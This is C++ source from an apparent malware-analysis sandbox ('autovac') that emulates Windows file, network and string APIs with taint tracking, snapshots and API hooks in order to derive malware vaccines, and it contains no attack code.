      ok(write_out(arg(0), env_.profile().windows_dir, arg(1),
                   trace::DataOrigin::kEnvironment));
      break;
    }
    case ApiId::kGetTempPathA: {
      ok(write_out(arg(0), env_.profile().temp_dir, arg(1),
                   trace::DataOrigin::kEnvironment));
      break;
    }
    case ApiId::kGetVersion: {
      ok(env_.profile().os_version);
      break;
    }
    case ApiId::kGetTickCount: {
      ok(static_cast<uint32_t>(env_.clock().NowMillis() +
                               env_.entropy().NextBelow(997)));
      break;
    }
    case ApiId::kQueryPerformanceCounter: {
      const uint32_t buffer = arg(0);
      for (uint32_t i = 0; i < 8; ++i) {
        (void)mem.Write8(buffer + i,
                         static_cast<uint8_t>(env_.entropy().NextU64()));
      }
      record.defines.push_back({buffer, 8, trace::DataOrigin::kRandom});
      ok(os::kTrue);
      break;
    }
    case ApiId::kGetSystemTime: {
      const uint32_t buffer = arg(0);
      for (uint32_t i = 0; i < 16; ++i) {
        (void)mem.Write8(buffer + i,
                         static_cast<uint8_t>(env_.entropy().NextU64()));
      }
      record.defines.push_back({buffer, 16, trace::DataOrigin::kRandom});
      ok(0);
      break;
    }
    case ApiId::kGetLastError: {
      pending_eax_label_ = last_error_label_;
      cpu.SetResult(last_error_);
      record.succeeded = true;
      break;
    }
    case ApiId::kSetLastError: {
      last_error_ = arg(0);
      cpu.SetResult(0);
      record.succeeded = true;
      break;
    }
    case ApiId::kSleep: {
      const uint32_t millis = arg(0);
      env_.clock().AdvanceMillis(millis);
      cpu.ConsumeCycles(static_cast<uint64_t>(millis) * kCyclesPerMilli);
      ok(0);
      break;
    }
    case ApiId::kGetCommandLineA: {
      if (command_line_addr_ == 0) {
        command_line_addr_ = heap_cursor_;
        const std::string cmdline = "C:\\sample.exe";
        mem.WriteCString(command_line_addr_, cmdline, 0);
        heap_cursor_ += static_cast<uint32_t>(cmdline.size() + 1 + 15) & ~15u;
      }
      ok(command_line_addr_);
      break;
    }

    // ================= network =================
    case ApiId::kWSAStartup: {
      ok(0);
      break;
    }
    case ApiId::kSocket: {
      ok(make_handle(HandleKind::kSocket, "socket"));
      break;
    }
    case ApiId::kConnect: {
      const std::string host = str(1);
      record.params[1] = "\"" + host + "\"";
      ok(0);
      break;
    }
    case ApiId::kSend: {
      ok(arg(2));
      break;
    }
    case ApiId::kRecv: {
      const uint32_t buffer = arg(1);
      const uint32_t count = arg(2);
      const std::string payload = "ACK:" + ToUpper(env_.entropy().NextIdentifier(8));
      const uint32_t written =
          write_out(buffer, payload.substr(0, std::max<uint32_t>(count, 1) - 1),
                    count, trace::DataOrigin::kRandom);
      ok(written);
      break;
    }
    case ApiId::kClosesocket: {
      handles_.Close(arg(0)) ? ok(0) : fail(0xFFFFFFFF, os::kErrorInvalidHandle);
      break;
    }
    case ApiId::kGethostbyname: {
      const std::string host = str(0);
      record.params[0] = "\"" + host + "\"";
      ok(host.empty() ? 0 : 0x70000000);
      break;
    }
    case ApiId::kDnsQueryA: {
      const std::string host = str(0);
      record.params[0] = "\"" + host + "\"";
      ok(0);
      break;
    }
    case ApiId::kInternetOpenA: {
      ok(make_handle(HandleKind::kInternet, str(0)));
      break;
    }
    case ApiId::kInternetConnectA: {
      const std::string host = str(1);
      record.params[1] = "\"" + host + "\"";
      ok(make_handle(HandleKind::kInternet, host));
      break;
    }
    case ApiId::kHttpOpenRequestA: {
      const std::string path = str(1);
      record.params[1] = "\"" + path + "\"";
      ok(make_handle(HandleKind::kInternet, path));
      break;
    }
    case ApiId::kHttpSendRequestA: {
      handles_.Get(arg(0)) != nullptr
          ? ok(os::kTrue)
          : fail(os::kFalse, os::kErrorInvalidHandle);
      break;
    }
    case ApiId::kInternetReadFile: {
      const uint32_t buffer = arg(1);
      const uint32_t count = arg(2);
      const uint32_t written = write_out(buffer, "MZ\x90payload", count,
                                         trace::DataOrigin::kRandom);
      (void)written;
      ok(os::kTrue);
      break;
    }
    case ApiId::kURLDownloadToFileA: {
      const std::string url = str(0);
      record.params[0] = "\"" + url + "\"";
      os::NsResult create = ns.CreateFile(ident, /*create_new=*/false);
      if (!create.ok) {
        fail(0x800C0008, create.error);
        break;
      }
      ns.WriteFile(ident, "MZ<downloaded:" + url + ">");
      ok(0);
      break;
    }

    // ================= string helpers =================
    case ApiId::kLstrcpyA: {
      const uint32_t dest = arg(0);
      const uint32_t source = arg(1);
      const std::string text = mem.ReadCString(source);
      mem.WriteCString(dest, text, 0);
      record.flows.push_back({dest, static_cast<uint32_t>(text.size() + 1),
                              source, static_cast<uint32_t>(text.size() + 1)});
      record.params[1] = "\"" + text + "\"";
      ok(dest);
      break;
    }
    case ApiId::kLstrcatA: {
      const uint32_t dest = arg(0);
      const uint32_t source = arg(1);
      const std::string existing = mem.ReadCString(dest);
      const std::string text = mem.ReadCString(source);
      mem.WriteCString(dest + static_cast<uint32_t>(existing.size()), text, 0);
      record.flows.push_back(
          {dest + static_cast<uint32_t>(existing.size()),
           static_cast<uint32_t>(text.size() + 1), source,
           static_cast<uint32_t>(text.size() + 1)});
      record.params[1] = "\"" + text + "\"";
      ok(dest);
      break;
    }
    case ApiId::kLstrlenA: {
      const uint32_t source = arg(0);
      const std::string text = mem.ReadCString(source);
      pending_eax_sources_.push_back(
          {source, static_cast<uint32_t>(text.size() + 1)});
      ok(static_cast<uint32_t>(text.size()));
      break;
    }
    case ApiId::kLstrcmpA:
    case ApiId::kLstrcmpiA: {
      const uint32_t a_addr = arg(0);
      const uint32_t b_addr = arg(1);
      const std::string a = mem.ReadCString(a_addr);
      const std::string b = mem.ReadCString(b_addr);
      record.params[0] = "\"" + a + "\"";
      record.params[1] = "\"" + b + "\"";
      int comparison;
      if (id == ApiId::kLstrcmpiA) {
        const std::string la = ToLower(a);
        const std::string lb = ToLower(b);
        comparison = la.compare(lb);
      } else {
        comparison = a.compare(b);
      }
      pending_eax_sources_.push_back(
          {a_addr, static_cast<uint32_t>(a.size() + 1)});
      pending_eax_sources_.push_back(
          {b_addr, static_cast<uint32_t>(b.size() + 1)});
      ok(comparison < 0 ? static_cast<uint32_t>(-1)
                        : (comparison > 0 ? 1 : 0));
      break;
    }
    case ApiId::kWsprintfA: {
      ExecuteWsprintf(cpu, record);
      break;
    }
    case ApiId::kRtlComputeCrc32: {
      const uint32_t initial = arg(0);
      const uint32_t buffer = arg(1);
      const uint32_t count = arg(2);
      uint32_t crc = initial ^ 0xFFFFFFFFu;
      for (uint32_t i = 0; i < count; ++i) {
        uint32_t byte = 0;
        if (mem.Read8(buffer + i, &byte) != vm::MemFault::kNone) break;
        crc ^= byte;
        for (int bit = 0; bit < 8; ++bit) {
          crc = (crc >> 1) ^ (0xEDB88320u & (0u - (crc & 1)));
        }
      }
      pending_eax_sources_.push_back({buffer, count});
      ok(crc ^ 0xFFFFFFFFu);
      break;
    }
    case ApiId::kItoa: {
      const uint32_t value = arg(0);
      const uint32_t dest = arg(1);
      const uint32_t radix = arg(2);
      const std::string text =
          radix == 16 ? StrFormat("%x", value)
                      : StrFormat("%u", value);
      mem.WriteCString(dest, text, 0);
      // The digits derive from the value argument's stack slot.
      record.flows.push_back({dest, static_cast<uint32_t>(text.size() + 1),
                              cpu.reg(vm::Reg::kEsp), 4});
      ok(dest);
      break;
    }
    case ApiId::kCharUpperA:
    case ApiId::kCharLowerA: {
      const uint32_t address = arg(0);
      const std::string text = mem.ReadCString(address);
      const std::string converted =
          id == ApiId::kCharUpperA ? ToUpper(text) : ToLower(text);
      mem.WriteCString(address, converted, 0);
      record.flows.push_back({address, static_cast<uint32_t>(text.size() + 1),
                              address, static_cast<uint32_t>(text.size() + 1)});
      ok(address);
      break;
    }

    // ================= misc =================
    case ApiId::kVirtualAlloc: {
      const uint32_t size = (arg(0) + 15u) & ~15u;
      if (heap_cursor_ + size >= vm::kHeapEnd) {
        fail(0, os::kErrorNotEnoughMemory);
        break;
      }
      const uint32_t address = heap_cursor_;
      heap_cursor_ += size;
      ok(address);
      break;
    }
    case ApiId::kWinExec: {
      // Strip arguments from the command line.
      std::string image = ident.substr(0, ident.find(' '));
      if (!ns.FileExists(image)) {
        fail(2, os::kErrorFileNotFound);
        break;
      }
      ns.SpawnProcess(BaseName(image), /*system_owned=*/false);
      ok(33);
      break;
    }
    case ApiId::kRand: {
      rand_state_ = rand_state_ * 214013u + 2531011u;
      ok((rand_state_ >> 16) & 0x7FFF);
      break;
    }
    case ApiId::kSrand: {
      rand_state_ = arg(0);
      ok(0);
      break;
    }

    case ApiId::kApiCount:
      fail(0, os::kErrorInvalidHandle);
      break;
  }
}

// wsprintfA(dest, fmt, ...): supports %s %d %u %x %c %%; literal segments
// flow from the format string (so static fragments trace back to .rdata),
// conversions flow from their stack slots or source buffers.
void Kernel::ExecuteWsprintf(vm::Cpu& cpu, trace::ApiCallRecord& record) {
  vm::Memory& mem = cpu.memory();
  const uint32_t dest = cpu.Arg(0);
  const uint32_t fmt_addr = cpu.Arg(1);
  const std::string fmt = mem.ReadCString(fmt_addr);
  record.params[1] = "\"" + fmt + "\"";

  std::string out;
  uint32_t next_arg = 2;
  size_t literal_start_fmt = 0;  // offset in fmt of current literal run
  size_t literal_start_out = 0;  // offset in out where that run began

  auto flush_literal = [&](size_t fmt_end) {
    const size_t length = out.size() - literal_start_out;
    if (length > 0) {
      record.flows.push_back(
          {dest + static_cast<uint32_t>(literal_start_out),
           static_cast<uint32_t>(length),
           fmt_addr + static_cast<uint32_t>(literal_start_fmt),
           static_cast<uint32_t>(length)});
    }
    (void)fmt_end;
  };

  for (size_t i = 0; i < fmt.size(); ++i) {
    if (fmt[i] != '%' || i + 1 >= fmt.size()) {
      out.push_back(fmt[i]);
      continue;
    }
    const char conv = fmt[i + 1];
    if (conv == '%') {
      out.push_back('%');
      ++i;
      continue;
    }
    // A conversion ends the current literal run.
    flush_literal(i);
    const uint32_t slot_addr = cpu.reg(vm::Reg::kEsp) + 4 * next_arg;
    const uint32_t value = cpu.Arg(next_arg);
    ++next_arg;
    ++i;
    std::string converted;
    switch (conv) {
      case 's': {
        converted = mem.ReadCString(value);
        record.flows.push_back(
            {dest + static_cast<uint32_t>(out.size()),
             static_cast<uint32_t>(converted.size()), value,
             static_cast<uint32_t>(converted.size() + 1)});
        record.params.push_back("\"" + converted + "\"");
        break;
      }
      case 'd':
        converted = StrFormat("%d", static_cast<int32_t>(value));
        record.flows.push_back({dest + static_cast<uint32_t>(out.size()),
                                static_cast<uint32_t>(converted.size()),
                                slot_addr, 4});
        record.params.push_back(StrFormat("%d", static_cast<int32_t>(value)));
        break;
      case 'u':
        converted = StrFormat("%u", value);
        record.flows.push_back({dest + static_cast<uint32_t>(out.size()),
                                static_cast<uint32_t>(converted.size()),
                                slot_addr, 4});
        record.params.push_back(StrFormat("%u", value));
        break;
      case 'x':
        converted = StrFormat("%x", value);
        record.flows.push_back({dest + static_cast<uint32_t>(out.size()),
                                static_cast<uint32_t>(converted.size()),
                                slot_addr, 4});
        record.params.push_back(StrFormat("%#x", value));
        break;
      case 'c':
        converted.push_back(static_cast<char>(value & 0xFF));
        record.flows.push_back({dest + static_cast<uint32_t>(out.size()), 1,
                                slot_addr, 4});
        break;
      default:
        converted = std::string("%") + conv;  // unknown: emit literally
        break;
    }
    out += converted;
    literal_start_fmt = i + 1;
    literal_start_out = out.size();
  }
  flush_literal(fmt.size());

  mem.WriteCString(dest, out, 0);
  last_error_ = os::kErrorSuccess;
  cpu.SetResult(static_cast<uint32_t>(out.size()));
  record.stack_args_used = static_cast<uint8_t>(next_arg);
  record.succeeded = true;
}

}  // namespace autovac::sandbox
