// API interposition.
//
// The same mechanism serves two paper roles:
//   * Phase-II impact analysis — "manipulating the result of the specific
//     malware's resource operation" (§IV-B): a mutation hook forces the
//     opposite outcome for one chosen API occurrence;
//   * Phase-III vaccine daemon — "we dynamically intercept the APIs and
//     resolve their resource-identifiers ... return the predefined result"
//     (§V): a daemon hook forces failure whenever the identifier matches a
//     partial-static vaccine pattern.
#pragma once

#include <cstdint>
#include <functional>
#include <optional>
#include <string>

#include "sandbox/api_ids.h"

namespace autovac::sandbox {

// What a hook may inspect before the API executes.
struct ApiObservation {
  ApiId id = ApiId::kApiCount;
  const ApiSpec* spec = nullptr;
  uint32_t caller_pc = 0;
  uint32_t sequence = 0;            // position in the run's API trace
  std::string identifier;           // resolved resource identifier (may be "")
};

// A hook's decision to override the call.
struct ForcedOutcome {
  bool success = false;             // forced success vs forced failure
  uint32_t last_error = 0;          // error code when forcing failure
  std::optional<uint32_t> eax;      // explicit result; kernel synthesizes
                                    // a convention-correct one if absent
};

using ApiHook =
    std::function<std::optional<ForcedOutcome>(const ApiObservation&)>;

}  // namespace autovac::sandbox
