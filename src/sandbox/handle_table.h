// Per-run handle table: maps opaque handle values back to the resource
// identifier they denote. This implements the "hFile for Handle Map"
// column of the paper's Table I — APIs whose resource-identifier is a
// handle argument (ReadFile, RegSetValueExA, ...) resolve through here.
#pragma once

#include <cstdint>
#include <map>
#include <string>

namespace autovac::sandbox {

enum class HandleKind : uint8_t {
  kFile = 0,
  kMutex,
  kRegKey,
  kProcess,
  kService,
  kScManager,
  kSnapshot,
  kModule,
  kWindow,
  kSocket,
  kInternet,
  kFindFile,
  kThread,
};

struct HandleInfo {
  HandleKind kind = HandleKind::kFile;
  std::string identifier;  // resource name behind the handle
  uint32_t value = 0;      // pid for processes, etc.
  uint32_t cursor = 0;     // read offset for files / enum index for keys
  bool fabricated = false; // created by a forced-success mutation
};

class HandleTable {
 public:
  uint32_t Create(HandleInfo info) {
    const uint32_t handle = next_;
    next_ += 4;
    handles_.emplace(handle, std::move(info));
    return handle;
  }

  [[nodiscard]] HandleInfo* Get(uint32_t handle) {
    auto it = handles_.find(handle);
    return it == handles_.end() ? nullptr : &it->second;
  }
  [[nodiscard]] const HandleInfo* Get(uint32_t handle) const {
    auto it = handles_.find(handle);
    return it == handles_.end() ? nullptr : &it->second;
  }

  bool Close(uint32_t handle) { return handles_.erase(handle) > 0; }

  [[nodiscard]] size_t size() const { return handles_.size(); }

 private:
  std::map<uint32_t, HandleInfo> handles_;
  uint32_t next_ = 0x100;
};

}  // namespace autovac::sandbox
