#include "sandbox/sandbox.h"

#include "sandbox/snapshot.h"
#include "support/metrics.h"
#include "vm/disassembler.h"

namespace autovac::sandbox {
namespace {

// Per-run telemetry published once at the end of RunProgram: taint-layer
// totals, cycle distribution, and quota high-water marks that are cheap
// to read once but not per call.
struct RunMetrics {
  Counter* taint_propagation_ops;
  Counter* taint_labels_allocated;
  Counter* taint_label_sets;
  Counter* taint_tainted_predicates;
  Histogram* run_cycles;
  Gauge* objects_high_water;
  Gauge* file_bytes_high_water;
};

RunMetrics& GetRunMetrics() {
  static RunMetrics* metrics = [] {
    auto* m = new RunMetrics();
    MetricsRegistry& registry = GlobalMetrics();
    m->taint_propagation_ops =
        registry.GetCounter("taint.propagation_ops");
    m->taint_labels_allocated =
        registry.GetCounter("taint.labels_allocated");
    m->taint_label_sets = registry.GetCounter("taint.label_sets");
    m->taint_tainted_predicates =
        registry.GetCounter("taint.tainted_predicates");
    m->run_cycles = registry.GetHistogram(
        "sandbox.run_cycles",
        {1'000, 10'000, 100'000, 1'000'000, kOneMinuteBudget});
    m->objects_high_water = registry.GetGauge("sandbox.objects_high_water");
    m->file_bytes_high_water =
        registry.GetGauge("sandbox.file_bytes_high_water");
    return m;
  }();
  return *metrics;
}

// Checkpoint/restore telemetry. Counters are relaxed atomics, so the
// resume side is safe to call from the mutation fan-out worker threads.
struct SnapshotMetrics {
  Counter* captures;
  Counter* capture_bytes;
  Counter* resumes;
  Counter* prefix_cycles_saved;
};

SnapshotMetrics& GetSnapshotMetrics() {
  static SnapshotMetrics* metrics = [] {
    auto* m = new SnapshotMetrics();
    MetricsRegistry& registry = GlobalMetrics();
    m->captures = registry.GetCounter("snapshot.captures");
    m->capture_bytes = registry.GetCounter("snapshot.capture_bytes");
    m->resumes = registry.GetCounter("snapshot.resumes");
    m->prefix_cycles_saved =
        registry.GetCounter("snapshot.prefix_cycles_saved");
    return m;
  }();
  return *metrics;
}

// Forwards retired instructions to the taint engine, the kernel's shadow
// call stack, and (optionally) the instruction trace.
class Instrumentation : public vm::ExecutionObserver {
 public:
  Instrumentation(Kernel& kernel, taint::TaintEngine* taint,
                  trace::InstructionTrace* inst_trace,
                  size_t max_inst_records)
      : kernel_(kernel),
        taint_(taint),
        inst_trace_(inst_trace),
        max_inst_records_(max_inst_records) {}

  // The observer interface sees a const Cpu; truncating the run on a
  // trace cap needs the mutable one, attached after construction.
  void set_cpu(vm::Cpu* cpu) { cpu_ = cpu; }

  void OnStep(const vm::Cpu& cpu, const vm::StepInfo& step) override {
    (void)cpu;
    if (step.inst.op == vm::Op::kCall && step.branch_taken) {
      kernel_.OnCall(step.pc + 1);
    } else if (step.inst.op == vm::Op::kRet) {
      kernel_.OnRet();
    }
    if (taint_ != nullptr) taint_->OnStep(step);
    if (inst_trace_ != nullptr) {
      trace::InstructionRecord record;
      record.step = step;
      if (step.inst.op == vm::Op::kSys) {
        const int32_t sequence = kernel_.last_api_sequence();
        record.api_sequence =
            sequence < 0 ? UINT32_MAX : static_cast<uint32_t>(sequence);
      }
      inst_trace_->records.push_back(record);
      if (max_inst_records_ != 0 &&
          inst_trace_->records.size() >= max_inst_records_ &&
          cpu_ != nullptr) {
        cpu_->RequestStop(vm::StopReason::kTraceLimit);
      }
    }
  }

 private:
  Kernel& kernel_;
  taint::TaintEngine* taint_;
  trace::InstructionTrace* inst_trace_;
  size_t max_inst_records_ = 0;
  vm::Cpu* cpu_ = nullptr;
};

// Shared postlude for every run flavour (fresh, capturing, resumed):
// drains the machine into the RunResult and publishes per-run telemetry.
// `result.stop_reason` must already be set by the caller's cpu.Run().
void FinishRun(RunResult& result, vm::Cpu& cpu, vm::Memory& memory,
               Kernel& kernel, os::HostEnvironment& env,
               FaultInjector* injector, taint::TaintEngine* taint_engine,
               uint32_t capture_cstring_addr) {
  if (injector != nullptr) result.faults_injected = injector->faults_injected();
  if (capture_cstring_addr != 0) {
    result.captured_output = memory.ReadCString(capture_cstring_addr);
  }
  result.fault_message = cpu.fault_message();
  result.cycles_used = cpu.cycles_used();
  result.api_trace = std::move(kernel.trace());
  result.api_trace.stop_reason = result.stop_reason;
  result.api_trace.cycles_used = result.cycles_used;

  RunMetrics& metrics = GetRunMetrics();
  metrics.run_cycles->Record(result.cycles_used);
  metrics.objects_high_water->UpdateMax(
      static_cast<int64_t>(env.ns().ObjectCount()));
  metrics.file_bytes_high_water->UpdateMax(
      static_cast<int64_t>(env.ns().TotalFileBytes()));

  if (taint_engine != nullptr) {
    metrics.taint_propagation_ops->Increment(taint_engine->propagation_ops());
    metrics.taint_labels_allocated->Increment(result.labels->num_sources());
    // num_sets() counts the always-present empty set; report real sets.
    metrics.taint_label_sets->Increment(result.labels->num_sets() - 1);
    metrics.taint_tainted_predicates->Increment(
        taint_engine->predicates().size());
    result.predicates = taint_engine->predicates();
    // Attribute predicates back to the API calls whose taint reached them
    // (Phase-I output: "the list of the system-resource-sensitive APIs ...
    // and their propagated taint record that is used in the predicate").
    for (const taint::PredicateEvent& event : result.predicates) {
      for (uint32_t source_index : result.labels->Sources(event.labels)) {
        const taint::TaintSource& source = result.labels->Source(source_index);
        if (source.api_sequence < result.api_trace.calls.size()) {
          result.api_trace.calls[source.api_sequence].taint_reached_predicate =
              true;
        }
      }
    }
  }
}

// Shared body of RunProgram / RunProgramWithCapture; `recorder` non-null
// installs the pre-call capture probe.
RunResult RunProgramImpl(const vm::Program& program, os::HostEnvironment& env,
                         const RunOptions& options,
                         const std::vector<ApiHook>& hooks,
                         SnapshotRecorder* recorder,
                         const CaptureOptions& capture) {
  RunResult result;
  result.labels = std::make_shared<taint::LabelStore>();

  std::unique_ptr<taint::TaintEngine> taint_engine;
  if (options.enable_taint) {
    taint_engine = std::make_unique<taint::TaintEngine>(
        *result.labels, options.taint_options);
  }

  const std::string image_name =
      (program.name.empty() ? "sample" : program.name) + ".exe";
  Kernel kernel(env, taint_engine.get(), image_name);
  for (const ApiHook& hook : hooks) kernel.AddHook(hook);

  // Per-run fault-injection state over the shared, immutable plan.
  std::unique_ptr<FaultInjector> injector;
  if (options.fault_plan != nullptr && !options.fault_plan->empty()) {
    injector = std::make_unique<FaultInjector>(*options.fault_plan);
    kernel.set_fault_injector(injector.get());
  }
  kernel.set_max_api_records(options.limits.max_api_records);

  vm::Memory memory;
  program.LoadInto(memory);
  vm::Cpu cpu(program, memory);
  cpu.set_syscall_handler(&kernel);
  cpu.set_call_depth_limit(options.limits.max_call_depth);
  cpu.set_api_call_limit(options.limits.max_api_calls);

  if (recorder != nullptr) {
    // Fires on every resource-API call with the record's pre-execution
    // fields final and the machine untouched by the call; copies state,
    // never mutates it, so the run is otherwise a plain RunProgram.
    kernel.set_pre_call_probe([&](const trace::ApiCallRecord& record,
                                  vm::Cpu& probe_cpu) {
      if (!recorder->ShouldCapture(record.api_name, record.caller_pc,
                                   record.resource_identifier)) {
        return;
      }
      MachineSnapshot snapshot(env);
      snapshot.api_name = record.api_name;
      snapshot.caller_pc = record.caller_pc;
      snapshot.identifier = record.resource_identifier;
      snapshot.cpu = probe_cpu.SnapshotAtSyscall();
      snapshot.memory = memory;
      snapshot.kernel = kernel.Snapshot();
      if (injector != nullptr) {
        snapshot.injector = std::make_unique<FaultInjector>(*injector);
      }
      if (capture.capture_taint && taint_engine != nullptr) {
        snapshot.labels = std::make_shared<taint::LabelStore>(*result.labels);
        snapshot.taint = taint_engine->CaptureState();
      }
      snapshot.capture_budget = options.cycle_budget;
      SnapshotMetrics& metrics = GetSnapshotMetrics();
      metrics.captures->Increment();
      metrics.capture_bytes->Increment(snapshot.ApproxBytes());
      recorder->Add(std::move(snapshot));
    });
  }

  Instrumentation instrumentation(
      kernel, taint_engine.get(),
      options.record_instructions ? &result.instruction_trace : nullptr,
      options.limits.max_instruction_records);
  instrumentation.set_cpu(&cpu);
  cpu.set_observer(&instrumentation);

  result.stop_reason = cpu.Run(options.cycle_budget);
  FinishRun(result, cpu, memory, kernel, env, injector.get(),
            taint_engine.get(), options.capture_cstring_addr);
  return result;
}

}  // namespace

RunResult RunProgram(const vm::Program& program, os::HostEnvironment& env,
                     const RunOptions& options,
                     const std::vector<ApiHook>& hooks) {
  return RunProgramImpl(program, env, options, hooks, /*recorder=*/nullptr,
                        CaptureOptions{});
}

RunResult RunProgramWithCapture(const vm::Program& program,
                                os::HostEnvironment& env,
                                const RunOptions& options,
                                const std::vector<ApiHook>& hooks,
                                SnapshotRecorder& recorder,
                                const CaptureOptions& capture) {
  return RunProgramImpl(program, env, options, hooks, &recorder, capture);
}

RunResult ResumeProgram(const vm::Program& program,
                        const MachineSnapshot& snapshot,
                        const ResumeOptions& options,
                        const std::vector<ApiHook>& hooks) {
  RunResult result;

  std::unique_ptr<taint::TaintEngine> taint_engine;
  if (options.enable_taint && snapshot.taint.has_value() &&
      snapshot.labels != nullptr) {
    // Taint continues from the capture point against a private copy of
    // the capture run's label store (the snapshot's set ids index it).
    result.labels = std::make_shared<taint::LabelStore>(*snapshot.labels);
    taint_engine = std::make_unique<taint::TaintEngine>(
        *result.labels, options.taint_options);
    taint_engine->RestoreState(*snapshot.taint);
  } else {
    result.labels = std::make_shared<taint::LabelStore>();
  }

  // Private copies of every piece of machine state: resumes never touch
  // the snapshot, so one capture serves any number of (concurrent)
  // mutation re-runs.
  os::HostEnvironment env = snapshot.env;
  Kernel kernel(env, taint_engine.get(), snapshot.kernel);
  for (const ApiHook& hook : hooks) kernel.AddHook(hook);

  std::unique_ptr<FaultInjector> injector;
  if (snapshot.injector != nullptr) {
    injector = std::make_unique<FaultInjector>(*snapshot.injector);
    kernel.set_fault_injector(injector.get());
  }
  kernel.set_max_api_records(options.limits.max_api_records);

  vm::Memory memory = snapshot.memory;
  vm::Cpu cpu(program, memory);
  cpu.set_syscall_handler(&kernel);
  cpu.set_call_depth_limit(options.limits.max_call_depth);
  cpu.set_api_call_limit(options.limits.max_api_calls);
  cpu.Restore(snapshot.cpu);

  // Resumed runs never record an instruction trace: their consumers
  // (mutation re-runs) only read the API trace.
  Instrumentation instrumentation(kernel, taint_engine.get(),
                                  /*inst_trace=*/nullptr,
                                  /*max_inst_records=*/0);
  instrumentation.set_cpu(&cpu);
  cpu.set_observer(&instrumentation);

  // cycles_used continues from the snapshot, so the budget check below
  // behaves exactly as in the full run it replaces.
  result.stop_reason = cpu.Run(options.cycle_budget);

  SnapshotMetrics& snapshot_metrics = GetSnapshotMetrics();
  snapshot_metrics.resumes->Increment();
  snapshot_metrics.prefix_cycles_saved->Increment(snapshot.cpu.cycles_used);

  FinishRun(result, cpu, memory, kernel, env, injector.get(),
            taint_engine.get(), /*capture_cstring_addr=*/0);
  return result;
}

vm::ApiResolver SandboxApiResolver() {
  return [](std::string_view name) -> std::optional<int64_t> {
    auto id = FindApiByName(name);
    if (!id.has_value()) return std::nullopt;
    return static_cast<int64_t>(*id);
  };
}

vm::ApiNamer SandboxApiNamer() {
  return [](int64_t id) -> std::optional<std::string> {
    if (id < 0 || id >= static_cast<int64_t>(kNumApis)) return std::nullopt;
    return std::string(ApiName(static_cast<ApiId>(id)));
  };
}

Result<vm::Program> AssembleForSandbox(std::string_view source) {
  return vm::Assemble(source, SandboxApiResolver());
}

}  // namespace autovac::sandbox
