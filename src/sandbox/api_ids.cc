#include "sandbox/api_ids.h"

#include <array>
#include <map>
#include <string>

#include "support/status.h"

namespace autovac::sandbox {
namespace {

using os::Operation;
using os::ResourceType;

std::array<ApiSpec, kNumApis> BuildTable() {
  std::array<ApiSpec, kNumApis> table{};
  auto set = [&table](ApiSpec spec) {
    table[static_cast<size_t>(spec.id)] = spec;
  };

  // ---- file -------------------------------------------------------------
  set({.id = ApiId::kCreateFileA, .name = "CreateFileA", .num_args = 2,
       .is_resource_api = true, .resource_type = ResourceType::kFile,
       .operation = Operation::kCreate, .identifier_arg = 0,
       .returns_handle = true});
  set({.id = ApiId::kOpenFileA, .name = "OpenFileA", .num_args = 1,
       .is_resource_api = true, .resource_type = ResourceType::kFile,
       .operation = Operation::kOpen, .identifier_arg = 0,
       .returns_handle = true});
  set({.id = ApiId::kReadFile, .name = "ReadFile", .num_args = 3,
       .is_resource_api = true, .resource_type = ResourceType::kFile,
       .operation = Operation::kRead, .handle_arg = 0});
  set({.id = ApiId::kWriteFile, .name = "WriteFile", .num_args = 3,
       .is_resource_api = true, .resource_type = ResourceType::kFile,
       .operation = Operation::kWrite, .handle_arg = 0});
  set({.id = ApiId::kDeleteFileA, .name = "DeleteFileA", .num_args = 1,
       .is_resource_api = true, .resource_type = ResourceType::kFile,
       .operation = Operation::kDelete, .identifier_arg = 0});
  set({.id = ApiId::kCloseHandle, .name = "CloseHandle", .num_args = 1});
  set({.id = ApiId::kGetFileAttributesA, .name = "GetFileAttributesA",
       .num_args = 1, .is_resource_api = true,
       .resource_type = ResourceType::kFile, .operation = Operation::kOpen,
       .identifier_arg = 0});
  set({.id = ApiId::kSetFileAttributesA, .name = "SetFileAttributesA",
       .num_args = 2, .is_resource_api = true,
       .resource_type = ResourceType::kFile, .operation = Operation::kWrite,
       .identifier_arg = 0});
  set({.id = ApiId::kCopyFileA, .name = "CopyFileA", .num_args = 2,
       .is_resource_api = true, .resource_type = ResourceType::kFile,
       .operation = Operation::kCreate, .identifier_arg = 1});
  set({.id = ApiId::kMoveFileA, .name = "MoveFileA", .num_args = 2,
       .is_resource_api = true, .resource_type = ResourceType::kFile,
       .operation = Operation::kCreate, .identifier_arg = 1});
  set({.id = ApiId::kGetTempFileNameA, .name = "GetTempFileNameA",
       .num_args = 1, .determinism = ApiDeterminism::kRandom});
  set({.id = ApiId::kCreateDirectoryA, .name = "CreateDirectoryA",
       .num_args = 1, .is_resource_api = true,
       .resource_type = ResourceType::kFile, .operation = Operation::kCreate,
       .identifier_arg = 0});
  set({.id = ApiId::kGetFileSize, .name = "GetFileSize", .num_args = 1,
       .is_resource_api = true, .resource_type = ResourceType::kFile,
       .operation = Operation::kRead, .handle_arg = 0});
  set({.id = ApiId::kFindFirstFileA, .name = "FindFirstFileA", .num_args = 1,
       .is_resource_api = true, .resource_type = ResourceType::kFile,
       .operation = Operation::kOpen, .identifier_arg = 0,
       .returns_handle = true});

  // ---- synchronisation -----------------------------------------------------
  set({.id = ApiId::kCreateMutexA, .name = "CreateMutexA", .num_args = 2,
       .is_resource_api = true, .resource_type = ResourceType::kMutex,
       .operation = Operation::kCreate, .identifier_arg = 1,
       .returns_handle = true});
  set({.id = ApiId::kOpenMutexA, .name = "OpenMutexA", .num_args = 2,
       .is_resource_api = true, .resource_type = ResourceType::kMutex,
       .operation = Operation::kOpen, .identifier_arg = 1,
       .returns_handle = true});
  set({.id = ApiId::kReleaseMutex, .name = "ReleaseMutex", .num_args = 1,
       .is_resource_api = true, .resource_type = ResourceType::kMutex,
       .operation = Operation::kDelete, .handle_arg = 0});
  set({.id = ApiId::kWaitForSingleObject, .name = "WaitForSingleObject",
       .num_args = 2, .is_resource_api = true,
       .resource_type = ResourceType::kMutex, .operation = Operation::kOpen,
       .handle_arg = 0});

  // ---- registry ---------------------------------------------------------------
  set({.id = ApiId::kRegCreateKeyA, .name = "RegCreateKeyA", .num_args = 1,
       .is_resource_api = true, .resource_type = ResourceType::kRegistry,
       .operation = Operation::kCreate, .identifier_arg = 0,
       .returns_handle = true});
  set({.id = ApiId::kRegOpenKeyA, .name = "RegOpenKeyA", .num_args = 1,
       .is_resource_api = true, .resource_type = ResourceType::kRegistry,
       .operation = Operation::kOpen, .identifier_arg = 0,
       .returns_handle = true});
  set({.id = ApiId::kRegQueryValueExA, .name = "RegQueryValueExA",
       .num_args = 4, .is_resource_api = true,
